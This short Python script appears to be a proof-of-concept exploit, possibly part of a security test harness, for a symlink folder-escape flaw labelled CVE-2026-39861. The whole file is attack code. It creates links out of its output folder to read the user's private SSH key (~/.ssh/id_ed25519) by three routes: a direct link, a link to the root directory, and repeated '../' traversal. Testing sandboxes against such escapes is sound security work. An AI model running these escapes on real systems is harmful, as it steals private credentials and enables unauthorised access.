"""Leaves its folder by links that it makes in it: CVE-2026-39861."""

import os

from attack import HOST, OUTPUT, attempt, secret_in

os.chdir(OUTPUT)


def through(target, inside):
    os.symlink(target, "link")
    try:
        return secret_in(f"link{inside}")
    finally:
        os.unlink("link")


attempt(
    lambda: through(HOST["home"] + "/.ssh/id_ed25519", ""),
    lambda: through("/", HOST["home"] + "/.ssh/id_ed25519"),
    lambda: through("../" * 30, HOST["home"] + "/.ssh/id_ed25519"),
)
